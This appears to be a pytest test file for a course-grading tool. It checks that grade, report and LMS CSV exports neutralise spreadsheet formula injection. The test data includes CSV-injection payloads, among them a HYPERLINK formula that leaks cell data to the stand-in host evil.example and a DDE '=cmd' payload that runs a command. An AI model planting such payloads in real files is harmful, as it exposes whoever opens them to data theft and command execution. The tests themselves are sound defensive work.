"""Every CSV the course writes is safe to open in a spreadsheet: a student-controlled text that starts
like a formula (=, +, -, @) is written as text ('=...), numbers stay numbers, and what an LMS matches
rows on (ids, logins) is unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from dlcourse.instructor.export import build_export, write_export
from dlcourse.instructor.grading.batch import Row, write_csv
from dlcourse.instructor.report import BatchReport
from dlcourse.instructor.report import write_csv as write_report_csv
from dlcourse.instructor.source import read_source
from dlcourse.instructor.spreadsheet import safe_cell
from tests.test_export import course_source, gradebook

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-0.5", "+3", "12", "", "Doe, Jane", "jdoe@uni.edu", "S-1001", 2.0, None])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def no_formula(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate."""
    bad = []
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "@", "\t", "\r")) or (cell.startswith("-") and not _number(cell)):
                bad.append(cell)
    return bad


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_grade_csv_neutralises_names_messages_and_flags(tmp_path):
    source = read_source(course_source(tmp_path))
    row = Row(student="=HYPERLINK(\"http://evil.example\")", assignment="99_demo", score=0.0, max_score=3.0,
              cells={"test_double": 0.0}, status="graded", flags=["@SUM(A1:A9)"], seconds=1.0,
              message="=cmd|' /C calc'!A0")
    path = tmp_path / "grades.csv"
    write_csv(path, [row], source)
    rows = read_rows(path)
    assert no_formula(rows) == []
    assert rows[1][0] == "'=HYPERLINK(\"http://evil.example\")"
    assert "'=cmd|' /C calc'!A0" in rows[1]


def test_the_batch_report_csvs_neutralise_students_and_failure_messages(tmp_path):
    from collections import Counter
    from dlcourse.instructor.report import SubmissionStats, TestStats
    test = TestStats("test_double", 2.0, graded=1, passed=0, messages=Counter({"=1+1 is not #": 1}),
                     examples={"=1+1 is not #": "=1+1 is not 2"})
    report = BatchReport(assignment="99_demo", tests=[test], submissions=[
        SubmissionStats(student="+1+1", score=0.0, max_score=2.0, status="graded", flags=["-2+3"], seconds=1.0)])
    rows = [r for p in write_report_csv(report, tmp_path) for r in read_rows(p)]
    assert no_formula(rows) == []
    assert any("'=1+1 is not 2" in r for r in rows) and any("'+1+1" in r for r in rows)


@pytest.mark.parametrize("kind", ["canvas", "moodle", "csv"])
def test_lms_exports_neutralise_a_roster_name_and_keep_the_ids_lms_match_on(tmp_path, kind):
    roster = tmp_path / "roster.csv"
    roster.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n'
                      '"=HYPERLINK(""http://evil.example""), Eve",1001,S-1001,eve,A\n', encoding="utf-8")
    url = gradebook(tmp_path / "gradebook.db", {"99_demo": {"eve": 2.0}})
    rows = read_rows(write_export(build_export(url, ["99_demo"], roster), kind, tmp_path / f"{kind}.csv"))
    assert no_formula(rows) == []
    text = "\n".join(",".join(r) for r in rows)
    assert "'=HYPERLINK" in text
    if kind == "canvas":
        assert rows[-1][1:4] == ["1001", "S-1001", "eve"]  # what Canvas matches a row on, unchanged
        assert rows[-1][-1] == "2"
